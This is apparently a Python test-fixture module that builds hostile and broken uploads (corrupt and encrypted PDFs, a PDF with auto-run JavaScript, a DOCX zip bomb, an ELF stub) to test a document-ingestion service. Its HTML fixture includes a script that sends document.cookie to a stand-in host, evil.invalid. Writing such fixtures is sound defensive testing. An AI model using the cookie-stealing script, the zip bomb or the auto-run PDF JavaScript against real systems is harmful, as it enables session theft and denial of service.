"""Generators of hostile and broken uploads.

Every file is built from code at test time: a PDF with a real text layer comes from
`citeproof.devkit.pdfgen`, everything else from pikepdf, zipfile or plain bytes. Each generator
returns the bytes only; what the service must answer is the test's business.
"""

from __future__ import annotations

import io
import zipfile

import pikepdf

from citeproof.devkit.pdfgen import DocumentSpec, Section, render_pdf

# A JavaScript action that would be visible if anything ever ran it or indexed it.
JS_CANARY = "citeproofJsCanary"
SCRIPT_CANARY = "citeproofScriptCanary"
# Enough uncompressed XML to blow past the parser's zip-ratio guard (real XML is ~5-20x).
BOMB_BYTES = 60 * 1024 * 1024


def text_pdf(title: str, paragraphs: tuple[str, ...]) -> bytes:
    """A small, valid PDF with a text layer."""
    spec = DocumentSpec(
        title=title,
        authors=("Ada Tester",),
        year=2024,
        sections=(Section(heading="1 Findings", paragraphs=paragraphs),),
    )
    return render_pdf(spec)


def corrupt_pdf() -> bytes:
    """A PDF header followed by bytes no reader can make sense of."""
    return b"%PDF-1.7\n" + bytes((i * 97 + 13) % 256 for i in range(4096)) + b"\n%%EOF\n"


def truncated_pdf(whole: bytes) -> bytes:
    """The first tenth of a real PDF: header and a few objects, no page tree, no xref."""
    return whole[: max(64, len(whole) // 10)]


def encrypted_pdf(whole: bytes) -> bytes:
    """A real PDF locked with a user password (it cannot be opened without it)."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(whole)) as pdf:
        pdf.save(out, encryption=pikepdf.Encryption(user="secret-user", owner="secret-owner"))
    return out.getvalue()


def scanned_pdf(pages: int = 2) -> bytes:
    """Pages that carry only an image (what a scanner produces): no text layer at all."""
    pdf = pikepdf.new()
    side = 64
    pixels = bytes((x * 3 + y * 5) % 256 for y in range(side) for x in range(side))
    for _ in range(pages):
        image = pikepdf.Stream(pdf, pixels)
        image.Type = pikepdf.Name.XObject
        image.Subtype = pikepdf.Name.Image
        image.Width = side
        image.Height = side
        image.ColorSpace = pikepdf.Name.DeviceGray
        image.BitsPerComponent = 8
        page = pdf.add_blank_page(page_size=(595, 842))
        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
        page.Contents = pdf.make_stream(b"q 500 0 0 700 40 60 cm /Im0 Do Q")
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def many_pages_pdf(pages: int) -> bytes:
    """`pages` blank pages: cheap to build, refused on the page count alone."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def javascript_pdf(whole: bytes) -> bytes:
    """A real PDF with an /OpenAction JavaScript and a page-open action."""
    script = f"var {JS_CANARY} = 1; app.alert('{JS_CANARY}'); this.exportDataObject();"
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(whole)) as pdf:
        action = pikepdf.Dictionary(
            Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pikepdf.String(script)
        )
        pdf.Root.OpenAction = pdf.make_indirect(action)
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), action]))
        )
        pdf.pages[0].obj.AA = pikepdf.Dictionary(O=action)
        pdf.save(out)
    return out.getvalue()


def elf_binary() -> bytes:
    """The start of a 64-bit Linux executable."""
    header = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
    return header + bytes(range(256)) * 8


def png_image() -> bytes:
    """A PNG signature and header chunk (the rest does not matter to a sniffer)."""
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(200))


def docx_bomb(uncompressed: int = BOMB_BYTES) -> bytes:
    """A DOCX whose document.xml inflates ~1000x: a zip bomb in Word clothing."""
    body = b" " * uncompressed
    document = (
        b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
        b'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
        + body
        + b"</w:t></w:r></w:p></w:body></w:document>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("word/document.xml", document)
    return out.getvalue()


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
    'package/2006/content-types"><Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)


def html_with_scripts(visible: str) -> bytes:
    """An article whose scripts, handlers and styles must never reach the index."""
    return f"""<!DOCTYPE html>
<html><head><title>Canopy notes</title>
<script>var {SCRIPT_CANARY} = "head"; fetch("http://evil.invalid/?" + document.cookie);</script>
<style>body {{ --{SCRIPT_CANARY}: 1; }}</style></head>
<body onload="{SCRIPT_CANARY}()">
<h1>Canopy notes</h1>
<p>{visible}</p>
<img src="x" onerror="alert('{SCRIPT_CANARY}')">
<script type="module">import("{SCRIPT_CANARY}.js");</script>
<p>Street trees are common in the old town.</p>
</body></html>
""".encode()
